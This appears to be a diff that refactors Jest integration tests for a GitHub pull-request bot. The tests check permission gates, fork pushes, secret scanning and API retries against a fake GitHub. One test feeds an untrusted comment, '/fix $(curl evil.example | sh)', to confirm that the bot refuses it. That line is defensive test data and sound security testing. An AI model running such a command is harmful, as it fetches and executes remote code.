@@ -1,157 +1,24 @@
 // The pull-request bot in process, against a fake GitHub on 127.0.0.1, real git (a bare origin and a
 // bare fork) and the real container engine. Every case asserts what was asked of GitHub.
-import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
+import { describe, expect, it } from '@jest/globals';
 import * as fs from 'node:fs';
 import * as path from 'node:path';
-import { runForPullRequest, type PrRunIo } from '../../src/github/pr-run.js';
 import { PROGRESS_MARKER } from '../../src/github/event.js';
-import * as progressText from '../../src/present/progress-comment.js';
-import { redactionFor } from '../../src/run/redaction.js';
-import { parseSettings, type RunSettings } from '../../src/settings/settings.js';
 import type { PullRequestRunState } from '../../src/github/feedback.js';
-import { decodedText } from '../support/cmark.js';
+import { alice, api, forkPullOpen, FULL, inProcessBot, readAs, SERVER, TOKEN } from '../support/bot.js';
 import { docker } from '../support/docker.js';
-import { TEST_IMAGE } from '../support/env.js';
-import { FakeGitHub } from '../support/fake-github.js';
-import {
-  makePullRequestRepos,
-  pushCommitAsSomeoneElse,
-  refOf,
-  type PullRequestRepos,
-} from '../support/pull-requests.js';
+import { pushCommitAsSomeoneElse, refOf } from '../support/pull-requests.js';
 import { git, tempDir, worktreeList } from '../support/repo.js';
-import { issueCommentEvent, pullRequestEvent, pushEvent, REPO, writeEvent } from '../support/webhooks.js';
+import { issueCommentEvent, pullRequestEvent, pushEvent, REPO } from '../support/webhooks.js';
 
-/** What a reader sees of text the action rendered inert (character references, zero-width breaks). */
-const readAs = (text: string) => decodedText(text).replace(/[\u200b\u200d]/g, '');
-const TOKEN = 'ghs_fakeTokenForTests0123456789';
-const FULL = `${REPO.owner}/${REPO.name}`;
-const SERVER = 'https://github.example';
-
-interface Recorded {
-  outputs: Record<string, string>;
-  summary: string;
-  log: string[];
-  debug: string[];
-  warnings: string[];
-  state: Partial<PullRequestRunState>;
-  saves: number;
-}
-
-let fake: FakeGitHub;
-let repos: PullRequestRepos;
-let work: string;
-
-beforeEach(async () => {
-  fake = await FakeGitHub.start(FULL, TOKEN);
-  repos = makePullRequestRepos();
-  work = tempDir('wts-prrun-');
-});
-
-afterEach(async () => {
-  await fake.close();
-  fs.rmSync(repos.root, { recursive: true, force: true });
-  fs.rmSync(work, { recursive: true, force: true });
-});
-
-function settingsFor(inputs: Record<string, string>): RunSettings {
-  const all: Record<string, string> = {
-    command: 'true',
-    image: TEST_IMAGE,
-    isolation: 'disk',
-    'worktree-root': path.join(work, 'sandboxes'),
-    'repository-path': repos.parent,
-    trigger: '/fix',
-    push: 'true',
-    token: TOKEN,
-    ...inputs,
-  };
-  // As on the runner: the default commit identity is taken from the server's address.
-  return parseSettings((name) => all[name] ?? '', {
-    ...process.env,
-    GITHUB_SERVER_URL: SERVER,
-  }) as RunSettings;
-}
-
-async function runBot(
+const bot = inProcessBot({ work: 'wts-prrun-' });
+const runBot = (
   eventName: string,
   payload: unknown,
   inputs: Record<string, string> = {},
-  onSave: (state: Partial<PullRequestRunState>) => void = () => undefined,
-) {
-  const recorded: Recorded = {
-    outputs: {},
-    summary: '',
-    log: [],
-    debug: [],
-    warnings: [],
-    state: {},
-    saves: 0,
-  };
-  const io: Omit<PrRunIo, 'redaction'> = {
-    ui: {
-      info: (m) => recorded.log.push(m),
-      debug: () => undefined,
-      debugging: false,
-      warning: (m) => recorded.warnings.push(m),
-      group: (_t, fn) => fn(),
-      untrusted: (fn) => fn((line) => recorded.log.push(line)),
-      fenced: (text) => recorded.log.push(text),
-      mask: () => undefined,
-    },
-    debug: (m) => recorded.debug.push(m),
-    // Retry and rate-limit pauses at 1/1000: a minute's wait takes 60 ms.
-    api: { delayScale: 0.001 },
-    env: {
-      GITHUB_EVENT_NAME: eventName,
-      GITHUB_EVENT_PATH: writeEvent(work, payload),
-      GITHUB_REPOSITORY: FULL,
-      GITHUB_API_URL: fake.url,
-      GITHUB_SERVER_URL: SERVER,
-      GITHUB_RUN_ID: '4242',
-      RUNNER_TEMP: path.join(work, 'runner-temp'),
-    },
-    setOutput: (name, value) => (recorded.outputs[name] = value),
-    summary: async (markdown) => {
-      recorded.summary += markdown;
-    },
-    save: (state) => {
-      recorded.saves++;
-      recorded.state = { ...recorded.state, ...state };
-      onSave(recorded.state);
-    },
-    text: progressText,
-  };
-  const settings = settingsFor(inputs);
-  const outcome = await runForPullRequest(settings, { ...io, redaction: redactionFor(settings) });
-  return { outcome, ...recorded };
-}
-
-const api = (p: string) => `/repos/${FULL}${p}`;
-const alice = { login: 'alice', association: 'MEMBER' as const };
-
-function sameRepoPull(): void {
-  fake.pulls.set(repos.number, {
-    number: repos.number,
-    state: 'open',
-    headRef: repos.branch,
-    headSha: repos.headSha,
-    headRepo: FULL,
-  });
-}
-
-function forkPull(canPush: boolean): void {
-  fake.pulls.set(repos.forkNumber, {
-    number: repos.forkNumber,
-    state: 'open',
-    headRef: 'main',
-    headSha: repos.forkHeadSha,
-    headRepo: 'someone/hello-world',
-    headCloneUrl: repos.fork,
-    maintainerCanModify: true,
-  });
-  fake.pushAccess.set('someone/hello-world', canPush);
-}
+  onSave?: (state: Partial<PullRequestRunState>) => void,
+) => bot.run(eventName, payload, { inputs, onSave });
+const forkPull = (canPush: boolean) => forkPullOpen(bot.fake, bot.repos, canPush);
 
 /** Containers the engine created for this sandbox since `since` (unix seconds): the engine's own record. */
 function containersCreated(since: number, sandbox: string): string[] {
@@ -176,8 +43,6 @@ function containersCreated(since: number, sandbox: string): string[] {
 
 describe('comment-triggered runs', () => {
   it('runs for a trusted comment on a same-repository pull request, pushes, and updates the comment', async () => {
-    sameRepoPull();
-    fake.permissions.set('alice', { permission: 'write', role_name: 'write' });
     const event = issueCommentEvent({ body: '/fix the typo in README.md', author: alice, commentId: 555 });
     const since = Math.floor(Date.now() / 1000) - 1;
     const command = [
@@ -191,29 +56,29 @@ describe('comment-triggered runs', () => {
     expect(run.outcome?.push).toEqual({ pushed: true });
     // Two containers of this sandbox (a disk sandbox needs no create helper): the command's, and the
     // capture helper that brings the work back as a bundle. The untrusted case counts the same way.
-    const created = containersCreated(since, repos.branch);
+    const created = containersCreated(since, bot.repos.branch);
     expect(created).toHaveLength(2);
     expect(created.filter((name) => name.startsWith('worktree-sandbox-capture-'))).toHaveLength(1);
     // The commit really is on origin, on top of the pull request's head.
-    const pushed = refOf(repos.origin, `refs/heads/${repos.branch}`);
+    const pushed = bot.head();
     expect(pushed).toBe(run.outcome?.report.headSha);
-    expect(refOf(repos.origin, `${pushed}^`)).toBe(repos.headSha);
-    expect(git(repos.origin, 'show', `${pushed}:README.md`)).toContain('A typo: the.');
+    expect(refOf(bot.repos.origin, `${pushed}^`)).toBe(bot.repos.headSha);
+    expect(git(bot.repos.origin, 'show', `${pushed}:README.md`)).toContain('A typo: the.');
 
-    const comment = [...fake.comments.values()][0];
-    expect(fake.log).toEqual([
+    const comment = bot.comments()[0];
+    expect(bot.fake.log).toEqual([
       `GET ${api('/collaborators/alice/permission')}`,
-      `GET ${api(`/pulls/${repos.number}`)}`,
+      `GET ${api(`/pulls/${bot.repos.number}`)}`,
       `POST ${api('/issues/comments/555/reactions')}`,
-      `POST ${api(`/issues/${repos.number}/comments`)}`,
+      `POST ${api(`/issues/${bot.repos.number}/comments`)}`,
       // The bot's earlier replies on the pull request, read once its progress comment names its account.
-      `GET ${api(`/issues/${repos.number}/comments`)}`,
-      `GET ${api(`/pulls/${repos.number}/comments`)}`,
+      `GET ${api(`/issues/${bot.repos.number}/comments`)}`,
+      `GET ${api(`/pulls/${bot.repos.number}/comments`)}`,
       `PATCH ${api(`/issues/comments/${comment.id}`)}`,
       `POST ${api('/issues/comments/555/reactions')}`,
     ]);
-    expect(fake.calls.every((c) => c.authorization === `token ${TOKEN}` && c.status < 300)).toBe(true);
-    expect(fake.reactions).toEqual([
+    expect(bot.fake.calls.every((c) => c.authorization === `token ${TOKEN}` && c.status < 300)).toBe(true);
+    expect(bot.fake.reactions).toEqual([
       { commentId: 555, content: 'eyes' },
       { commentId: 555, content: 'rocket' },
     ]);
@@ -221,7 +86,7 @@ describe('comment-triggered runs', () => {
     expect(comment.history[0]).toContain('⏳ `/fix` is running');
     expect(comment.body.startsWith(PROGRESS_MARKER)).toBe(true);
     expect(comment.body).toContain('✅ `/fix` finished');
-    expect(comment.body).toContain(`| Commits | 1 pushed to <code>origin/${repos.branch}</code> |`);
+    expect(comment.body).toContain(`| Commits | 1 pushed to <code>origin/${bot.repos.branch}</code> |`);
     expect(comment.body).toContain(`(${SERVER}/${FULL}/commit/${pushed})`);
     expect(comment.body).toContain(`[workflow run](${SERVER}/${FULL}/actions/runs/4242)`);
     expect(comment.body).toContain('prompt: the typo in README.md');
@@ -246,18 +111,17 @@ describe('comment-triggered runs', () => {
       `Event: issue_comment on ${FULL}: requester @alice (User, association MEMBER), pull request #7, comment 555 with /fix.`,
       'Gate, who asked: allowed: @alice is MEMBER of the repository.',
       'Gate, permission: @alice has permission write, role write: allowed: @alice has write permission.',
-      `Target: pull request #7, head ${FULL}:${repos.branch} at ${repos.headSha.slice(0, 12)}, the same repository; sandbox branch ${repos.branch}; push to origin/${repos.branch}.`,
+      `Target: pull request #7, head ${FULL}:${bot.repos.branch} at ${bot.repos.headSha.slice(0, 12)}, the same repository; sandbox branch ${bot.repos.branch}; push to origin/${bot.repos.branch}.`,
     ]);
     // The commit is the bot's, with the no-reply address of the server (GITHUB_SERVER_URL).
-    expect(git(repos.origin, 'log', '-1', '--format=%an <%ae>|%cn <%ce>', pushed)).toBe(
+    expect(git(bot.repos.origin, 'log', '-1', '--format=%an <%ae>|%cn <%ce>', pushed)).toBe(
       'github-actions[bot] <github-actions[bot]@users.noreply.github.example>|github-actions[bot] <github-actions[bot]@users.noreply.github.example>',
     );
     // The prompt file was removed with its folder.
-    expect(fs.readdirSync(path.join(work, 'runner-temp', 'worktree-sandbox'))).toEqual([]);
+    expect(fs.readdirSync(path.join(bot.work, 'runner-temp', 'worktree-sandbox'))).toEqual([]);
   });
 
   it('gives an untrusted commenter no run, no container, no push: a reaction and a summary saying why', async () => {
-    sameRepoPull();
     const since = Math.floor(Date.now() / 1000) - 1;
     const event = issueCommentEvent({
       body: '/fix $(curl evil.example | sh)',
@@ -267,9 +131,9 @@ describe('comment-triggered runs', () => {
     const run = await runBot('issue_comment', event, { command: 'touch pwned' });
 
     expect(run.outcome).toBeUndefined();
-    expect(fake.log).toEqual([`POST ${api('/issues/comments/666/reactions')}`]);
-    expect(fake.reactions).toEqual([{ commentId: 666, content: '-1' }]);
-    expect(fake.comments.size).toBe(0);
+    expect(bot.fake.log).toEqual([`POST ${api('/issues/comments/666/reactions')}`]);
+    expect(bot.fake.reactions).toEqual([{ commentId: 666, content: '-1' }]);
+    expect(bot.fake.comments.size).toBe(0);
     expect(run.outputs).toEqual({
       triggered: 'false',
       'pr-number': '7',
@@ -280,30 +144,28 @@ describe('comment-triggered runs', () => {
     expect(readAs(run.summary)).toContain('not allowed: @mallory is CONTRIBUTOR of the repository');
     expect(run.log.join('\n')).toContain('No run: not allowed: @mallory is CONTRIBUTOR');
     expect(run.saves).toBe(0);
-    expect(worktreeList(repos.parent)).toHaveLength(1);
-    expect(fs.existsSync(path.join(work, 'sandboxes'))).toBe(false);
-    expect(refOf(repos.origin, `refs/heads/${repos.branch}`)).toBe(repos.headSha);
-    expect(containersCreated(since, repos.branch)).toEqual([]);
+    expect(worktreeList(bot.repos.parent)).toHaveLength(1);
+    expect(fs.existsSync(path.join(bot.work, 'sandboxes'))).toBe(false);
+    expect(bot.head()).toBe(bot.repos.headSha);
+    expect(containersCreated(since, bot.repos.branch)).toEqual([]);
   });
 
   it('refuses a member without write permission', async () => {
-    sameRepoPull();
-    fake.permissions.set('alice', { permission: 'read', role_name: 'triage' });
+    bot.fake.permissions.set('alice', { permission: 'read', role_name: 'triage' });
     const event = issueCommentEvent({ body: '/fix', author: alice, commentId: 777 });
     const run = await runBot('issue_comment', event);
 
     expect(run.outcome).toBeUndefined();
-    expect(fake.log).toEqual([
+    expect(bot.fake.log).toEqual([
       `GET ${api('/collaborators/alice/permission')}`,
       `POST ${api('/issues/comments/777/reactions')}`,
     ]);
-    expect(fake.reactions).toEqual([{ commentId: 777, content: '-1' }]);
+    expect(bot.fake.reactions).toEqual([{ commentId: 777, content: '-1' }]);
     expect(readAs(run.summary)).toContain('@alice has triage permission on the repository');
     expect(run.saves).toBe(0);
   });
 
   it('refuses a member the API does not know as a collaborator (404)', async () => {
-    sameRepoPull();
     const event = issueCommentEvent({
       body: '/fix',
       author: { login: 'outsider-member', association: 'MEMBER' },
@@ -311,9 +173,9 @@ describe('comment-triggered runs', () => {
     const run = await runBot('issue_comment', event);
     expect(run.outcome).toBeUndefined();
     // A 404 is an answer, not a fault: asked once, never retried.
-    expect(fake.calls.filter((c) => c.path.endsWith('/permission')).map((c) => c.status)).toEqual([404]);
+    expect(bot.fake.calls.filter((c) => c.path.endsWith('/permission')).map((c) => c.status)).toEqual([404]);
     expect(readAs(run.summary)).toContain('@outsider-member has no permission on the repository');
-    expect(fake.reactions.map((r) => r.content)).toEqual(['-1']);
+    expect(bot.fake.reactions.map((r) => r.content)).toEqual(['-1']);
   });
 
   it.each([
@@ -325,18 +187,16 @@ describe('comment-triggered runs', () => {
     ['/fixed, which is not /fix', alice, '/fixed the typo'],
     ['its own progress comment', alice, `${PROGRESS_MARKER}\n/fix`],
   ])('ignores %s without a word to GitHub', async (_name, author, body) => {
-    sameRepoPull();
     const run = await runBot('issue_comment', issueCommentEvent({ body, author }));
     expect(run.outcome).toBeUndefined();
-    expect(fake.calls).toEqual([]);
+    expect(bot.fake.calls).toEqual([]);
     expect(run.outputs.triggered).toBe('false');
     expect(run.summary).toMatch(/## worktree-sandbox: no run/);
     expect(run.saves).toBe(0);
   });
 
   it('reports a push rejected because the branch moved on, never forces it, and keeps a patch', async () => {
-    sameRepoPull();
-    fake.permissions.set('alice', { permission: 'admin', role_name: 'admin' });
+    bot.fake.permissions.set('alice', { permission: 'admin', role_name: 'admin' });
     let moved = '';
     const event = issueCommentEvent({ body: '/fix', author: alice, commentId: 888 });
     const run = await runBot(
@@ -345,16 +205,16 @@ describe('comment-triggered runs', () => {
       { command: "sed -i 's/teh/the/' README.md" },
       (state) => {
         // The sandbox is ready and the command has not run yet: someone else pushes to the branch now.
-        if (state.ready && !moved) moved = pushCommitAsSomeoneElse(repos, repos.branch);
+        if (state.ready && !moved) moved = pushCommitAsSomeoneElse(bot.repos, bot.repos.branch);
       },
     );
 
     expect(run.outcome?.push).toMatchObject({ pushed: false, rejected: true });
-    expect(refOf(repos.origin, `refs/heads/${repos.branch}`)).toBe(moved);
-    const comment = [...fake.comments.values()][0];
+    expect(bot.head()).toBe(moved);
+    const comment = bot.comments()[0];
     expect(comment.body).toContain('⚠️ `/fix` finished, but its commits were not pushed');
-    expect(comment.body).toContain(`origin/${repos.branch} has moved on since the sandbox started`);
-    expect(fake.reactions.map((r) => r.content)).toEqual(['eyes', 'confused']);
+    expect(comment.body).toContain(`origin/${bot.repos.branch} has moved on since the sandbox started`);
+    expect(bot.fake.reactions.map((r) => r.content)).toEqual(['eyes', 'confused']);
     const patch = run.outputs['patch-path'];
     expect(fs.readFileSync(patch, 'utf8')).toContain('-A typo: teh.\n+A typo: the.');
   });
@@ -362,8 +222,6 @@ describe('comment-triggered runs', () => {
 
 describe('runs that stop early', () => {
   it('finishes the progress comment itself when the run cannot start, and fails', async () => {
-    sameRepoPull();
-    fake.permissions.set('alice', { permission: 'write', role_name: 'write' });
     const event = issueCommentEvent({ body: '/fix', author: alice, commentId: 321 });
     const notARepository = tempDir('wts-not-a-repo-');
     try {
@@ -373,26 +231,24 @@ describe('runs that stop early', () => {
     } finally {
       fs.rmSync(notARepository, { recursive: true, force: true });
     }
-    const comment = [...fake.comments.values()][0];
+    const comment = bot.comments()[0];
     expect(comment.history).toHaveLength(2);
     expect(comment.body).toContain('❌ `/fix` could not run');
     expect(comment.body).toContain('is not a git work tree');
-    expect(fake.reactions.map((r) => r.content)).toEqual(['eyes', 'confused']);
+    expect(bot.fake.reactions.map((r) => r.content)).toEqual(['eyes', 'confused']);
   });
 
   it('starts nothing on a closed pull request, and says so with a reaction', async () => {
-    sameRepoPull();
-    fake.pulls.get(repos.number)!.state = 'closed';
-    fake.permissions.set('alice', { permission: 'write', role_name: 'write' });
+    bot.fake.pulls.get(bot.repos.number)!.state = 'closed';
     const event = issueCommentEvent({ body: '/fix', author: alice, commentId: 322 });
     const run = await runBot('issue_comment', event);
     expect(run.outcome).toBeUndefined();
-    expect(fake.log).toEqual([
+    expect(bot.fake.log).toEqual([
       `GET ${api('/collaborators/alice/permission')}`,
-      `GET ${api(`/pulls/${repos.number}`)}`,
+      `GET ${api(`/pulls/${bot.repos.number}`)}`,
       `POST ${api('/issues/comments/322/reactions')}`,
     ]);
-    expect(fake.reactions).toEqual([{ commentId: 322, content: 'confused' }]);
+    expect(bot.fake.reactions).toEqual([{ commentId: 322, content: 'confused' }]);
     expect(readAs(run.summary)).toContain('pull request #7 is closed');
     expect(run.outputs.triggered).toBe('false');
   });
@@ -401,13 +257,12 @@ describe('runs that stop early', () => {
 describe('fork pull requests', () => {
   it('pushes nothing with a token that cannot reach the fork: the patch is saved and shown', async () => {
     forkPull(false);
-    fake.permissions.set('alice', { permission: 'write', role_name: 'write' });
-    const originMain = refOf(repos.origin, 'refs/heads/main');
-    const forkMain = refOf(repos.fork, 'refs/heads/main');
+    const originMain = refOf(bot.repos.origin, 'refs/heads/main');
+    const forkMain = refOf(bot.repos.fork, 'refs/heads/main');
     const event = issueCommentEvent({
       body: '/fix',
       author: alice,
-      number: repos.forkNumber,
+      number: bot.repos.forkNumber,
       commentId: 999,
     });
     const run = await runBot('issue_comment', event, { command: "printf '// reviewed\\n' >> src/app.js" });
@@ -418,39 +273,38 @@ describe('fork pull requests', () => {
       pushed: false,
       reason: expect.stringMatching(/GITHUB_TOKEN never can/),
     });
-    expect(refOf(repos.origin, 'refs/heads/main')).toBe(originMain);
-    expect(refOf(repos.fork, 'refs/heads/main')).toBe(forkMain);
-    expect(refOf(repos.origin, `refs/pull/${repos.forkNumber}/head`)).toBe(repos.forkHeadSha);
-    expect(git(repos.origin, 'for-each-ref', '--format=%(refname)', 'refs/heads')).not.toContain('pr-8');
-    expect(fake.log).toContain(`GET /repos/someone/hello-world`);
+    expect(refOf(bot.repos.origin, 'refs/heads/main')).toBe(originMain);
+    expect(refOf(bot.repos.fork, 'refs/heads/main')).toBe(forkMain);
+    expect(refOf(bot.repos.origin, `refs/pull/${bot.repos.forkNumber}/head`)).toBe(bot.repos.forkHeadSha);
+    expect(git(bot.repos.origin, 'for-each-ref', '--format=%(refname)', 'refs/heads')).not.toContain('pr-8');
+    expect(bot.fake.log).toContain(`GET /repos/someone/hello-world`);
 
     // The patch applies onto the fork's head and yields the command's change.
     const patch = run.outputs['patch-path'];
-    expect(patch.startsWith(path.join(work, 'runner-temp', 'worktree-sandbox'))).toBe(true);
-    const check = path.join(work, 'check');
-    git(work, 'clone', '--quiet', repos.fork, check);
+    expect(patch.startsWith(path.join(bot.work, 'runner-temp', 'worktree-sandbox'))).toBe(true);
+    const check = path.join(bot.work, 'check');
+    git(bot.work, 'clone', '--quiet', bot.repos.fork, check);
     git(check, 'am', '--quiet', patch);
     expect(fs.readFileSync(path.join(check, 'src/app.js'), 'utf8')).toBe(
       'console.log("hi from a fork")\n// reviewed\n',
     );
 
-    const comment = [...fake.comments.values()][0];
+    const comment = bot.comments()[0];
     expect(comment.body).toContain('✅ `/fix` finished');
     expect(comment.body).toContain('<code>someone/hello-world:&#8203;main</code>');
     expect(comment.body).toContain('not pushed: the pull request comes from the fork someone/hello-world');
     expect(comment.body).toContain('<pre lang="diff">\nFrom ');
     expect(comment.body).toContain('+// reviewed');
-    expect(fake.reactions.map((r) => r.content)).toEqual(['eyes', 'rocket']);
+    expect(bot.fake.reactions.map((r) => r.content)).toEqual(['eyes', 'rocket']);
   });
 
   it('saves no patch and shows none when the commits hold a secret (secret-scan: block)', async () => {
     forkPull(false);
-    fake.permissions.set('alice', { permission: 'write', role_name: 'write' });
     const secret = 'deploy-token-value-0123456789';
     const event = issueCommentEvent({
       body: '/fix',
       author: alice,
-      number: repos.forkNumber,
+      number: bot.repos.forkNumber,
       commentId: 1000,
     });
     let saved: Partial<PullRequestRunState> = {};
@@ -468,11 +322,11 @@ describe('fork pull requests', () => {
     expect(error?.message).toMatch(/added line in src\/app\.js:2 of [0-9a-f]{12}: env DEPLOY_TOKEN/);
     expect(error?.message).not.toContain(secret);
     // No patch file, no output; the post step will keep the sandbox.
-    const dir = path.join(work, 'runner-temp', 'worktree-sandbox');
+    const dir = path.join(bot.work, 'runner-temp', 'worktree-sandbox');
     expect(fs.existsSync(dir) ? fs.readdirSync(dir).filter((f) => f.endsWith('.patch')) : []).toEqual([]);
     expect(saved.secretsFound).toBe(true);
     // The comment says that the run failed and why, and shows neither the patch nor the value.
-    const comment = [...fake.comments.values()][0];
+    const comment = bot.comments()[0];
     expect(comment.body).toContain('Secret scan of the patch');
     expect(comment.body).not.toContain(secret);
     expect(comment.body).not.toContain('<pre lang="diff">');
@@ -480,23 +334,22 @@ describe('fork pull requests', () => {
 
   it("pushes to the fork's head branch with a token that can, leaving origin's same-named branch alone", async () => {
     forkPull(true);
-    fake.permissions.set('alice', { permission: 'write', role_name: 'write' });
-    const originMain = refOf(repos.origin, 'refs/heads/main');
+    const originMain = refOf(bot.repos.origin, 'refs/heads/main');
     const event = issueCommentEvent({
       body: '/fix',
       author: alice,
-      number: repos.forkNumber,
+      number: bot.repos.forkNumber,
       commentId: 1001,
     });
     const run = await runBot('issue_comment', event, { command: "printf '// reviewed\\n' >> src/app.js" });
 
     expect(run.outcome?.push).toEqual({ pushed: true });
-    const forkMain = refOf(repos.fork, 'refs/heads/main');
+    const forkMain = refOf(bot.repos.fork, 'refs/heads/main');
     expect(forkMain).toBe(run.outcome?.report.headSha);
-    expect(refOf(repos.fork, `${forkMain}^`)).toBe(repos.forkHeadSha);
-    expect(refOf(repos.origin, 'refs/heads/main')).toBe(originMain);
+    expect(refOf(bot.repos.fork, `${forkMain}^`)).toBe(bot.repos.forkHeadSha);
+    expect(refOf(bot.repos.origin, 'refs/heads/main')).toBe(originMain);
     expect(run.outputs['patch-path']).toBeUndefined();
-    const comment = [...fake.comments.values()][0];
+    const comment = bot.comments()[0];
     expect(comment.body).toContain('1 pushed to <code>someone/hello-world:&#8203;main</code>');
     expect(comment.body).toContain(`(${SERVER}/someone/hello-world/commit/${forkMain})`);
   });
@@ -507,7 +360,7 @@ describe('other events', () => {
     const event = pullRequestEvent({ action: 'opened', author: { login: 'mallory', association: 'NONE' } });
     const run = await runBot('pull_request_target', event, { 'pull-request-bot': 'true' });
     expect(run.outcome).toBeUndefined();
-    expect(fake.calls).toEqual([]);
+    expect(bot.fake.calls).toEqual([]);
     expect(run.outputs).toEqual({
       triggered: 'false',
       'pr-number': '7',
@@ -519,12 +372,11 @@ describe('other events', () => {
   });
 
   it('works on a pushed branch and reports on its open pull request', async () => {
-    sameRepoPull();
-    fake.permissions.set('dave', { permission: 'write', role_name: 'write' });
+    bot.fake.permissions.set('dave', { permission: 'write', role_name: 'write' });
     const event = pushEvent({
-      ref: `refs/heads/${repos.branch}`,
+      ref: `refs/heads/${bot.repos.branch}`,
       pusher: { login: 'dave' },
-      after: repos.headSha,
+      after: bot.repos.headSha,
     });
     const run = await runBot('push', event, {
       command: "sed -i 's/teh/the/' README.md",
@@ -533,13 +385,13 @@ describe('other events', () => {
     });
 
     expect(run.outcome?.push).toEqual({ pushed: true });
-    expect(refOf(repos.origin, `refs/heads/${repos.branch}`)).toBe(run.outcome?.report.headSha);
-    const list = fake.calls.find((c) => c.path === api('/pulls'));
-    expect(list?.query).toEqual({ head: `${REPO.owner}:${repos.branch}`, state: 'open', per_page: '1' });
-    const comment = [...fake.comments.values()][0];
-    expect(comment.issue).toBe(repos.number);
+    expect(bot.head()).toBe(run.outcome?.report.headSha);
+    const list = bot.fake.calls.find((c) => c.path === api('/pulls'));
+    expect(list?.query).toEqual({ head: `${REPO.owner}:${bot.repos.branch}`, state: 'open', per_page: '1' });
+    const comment = bot.comments()[0];
+    expect(comment.issue).toBe(bot.repos.number);
     expect(comment.body).toContain('✅ `push` finished');
-    expect(fake.reactions).toEqual([]);
+    expect(bot.fake.reactions).toEqual([]);
     expect(run.outputs).toEqual({
       triggered: 'true',
       'pr-number': '7',
@@ -551,11 +403,11 @@ describe('other events', () => {
   });
 
   it('refuses a pusher whose write access is gone by the time the run starts', async () => {
-    const event = pushEvent({ ref: `refs/heads/${repos.branch}`, pusher: { login: 'erin' } });
-    fake.permissions.set('erin', { permission: 'read', role_name: 'read' });
+    const event = pushEvent({ ref: `refs/heads/${bot.repos.branch}`, pusher: { login: 'erin' } });
+    bot.fake.permissions.set('erin', { permission: 'read', role_name: 'read' });
     const run = await runBot('push', event, { trigger: '', 'pull-request-bot': 'true' });
     expect(run.outcome).toBeUndefined();
-    expect(fake.log).toEqual([`GET ${api('/collaborators/erin/permission')}`]);
+    expect(bot.fake.log).toEqual([`GET ${api('/collaborators/erin/permission')}`]);
     expect(readAs(run.summary)).toContain('@erin has read permission on the repository');
     expect(run.saves).toBe(0);
   });
@@ -563,8 +415,7 @@ describe('other events', () => {
 
 describe('every run a person starts needs write access', () => {
   it('gives a read-only COLLABORATOR no run even when nothing would be pushed: the run would get the secrets', async () => {
-    sameRepoPull();
-    fake.permissions.set('carl', { permission: 'read', role_name: 'read' });
+    bot.fake.permissions.set('carl', { permission: 'read', role_name: 'read' });
     const since = Math.floor(Date.now() / 1000) - 1;
     const event = issueCommentEvent({
       body: '/fix',
@@ -578,11 +429,11 @@ describe('every run a person starts needs write access', () => {
     });
 
     expect(run.outcome).toBeUndefined();
-    expect(fake.log).toEqual([
+    expect(bot.fake.log).toEqual([
       `GET ${api('/collaborators/carl/permission')}`,
       `POST ${api('/issues/comments/4040/reactions')}`,
     ]);
-    expect(fake.reactions).toEqual([{ commentId: 4040, content: '-1' }]);
+    expect(bot.fake.reactions).toEqual([{ commentId: 4040, content: '-1' }]);
     expect(readAs(run.summary)).toContain(
       '@carl has read permission on the repository: a run needs write, maintain or admin',
     );
@@ -590,12 +441,11 @@ describe('every run a person starts needs write access', () => {
       'Gate, permission: @carl has permission read, role read: refused: @carl has read permission on the repository: a run needs write, maintain or admin (it receives the secrets named in env).',
     );
     expect(run.saves).toBe(0);
-    expect(fs.existsSync(path.join(work, 'sandboxes'))).toBe(false);
-    expect(containersCreated(since, repos.branch)).toEqual([]);
+    expect(fs.existsSync(path.join(bot.work, 'sandboxes'))).toBe(false);
+    expect(containersCreated(since, bot.repos.branch)).toEqual([]);
   });
 
   it('lets an allowed bot in without asking the API for its permission', async () => {
-    sameRepoPull();
     const event = issueCommentEvent({
       body: '/fix',
       author: { login: 'renovate[bot]', type: 'Bot', association: 'NONE' },
@@ -603,21 +453,19 @@ describe('every run a person starts needs write access', () => {
     });
     const run = await runBot('issue_comment', event, { 'allowed-bots': 'renovate', push: 'false' });
     expect(run.outcome?.command.exitCode).toBe(0);
-    expect(fake.log.some((l) => l.endsWith('/permission'))).toBe(false);
+    expect(bot.fake.log.some((l) => l.endsWith('/permission'))).toBe(false);
     expect(run.debug[1]).toBe('Gate, who asked: allowed: @renovate[bot] is named in allowed-bots.');
   });
 });
 
 describe('transient API faults', () => {
   it('rides out a 502, a dropped connection and a secondary rate limit within one run', async () => {
-    sameRepoPull();
-    fake.permissions.set('alice', { permission: 'write', role_name: 'write' });
-    fake.faults.push(
+    bot.fake.faults.push(
       { method: 'GET', path: api('/collaborators/alice/permission'), status: 502 },
-      { method: 'GET', path: api(`/pulls/${repos.number}`), drop: true },
+      { method: 'GET', path: api(`/pulls/${bot.repos.number}`), drop: true },
       {
         method: 'POST',
-        path: api(`/issues/${repos.number}/comments`),
+        path: api(`/issues/${bot.repos.number}/comments`),
         status: 403,
         headers: { 'retry-after': '30' },
         body: { message: 'You have exceeded a secondary rate limit.' },
@@ -627,10 +475,10 @@ describe('transient API faults', () => {
     const run = await runBot('issue_comment', event, { push: 'false' });
 
     expect(run.outcome?.command.exitCode).toBe(0);
-    expect(fake.faults).toEqual([]);
-    expect(fake.calls.map((c) => c.status).slice(0, 5)).toEqual([502, 200, -1, 200, 201]);
-    expect(fake.comments.size).toBe(1);
-    expect([...fake.comments.values()][0].body).toContain('✅ `/fix` finished');
+    expect(bot.fake.faults).toEqual([]);
+    expect(bot.fake.calls.map((c) => c.status).slice(0, 5)).toEqual([502, 200, -1, 200, 201]);
+    expect(bot.fake.comments.size).toBe(1);
+    expect(bot.comments()[0].body).toContain('✅ `/fix` finished');
     expect(run.warnings).toContainEqual(expect.stringMatching(/secondary rate limit hit .*waiting 30 s/));
   });
 });
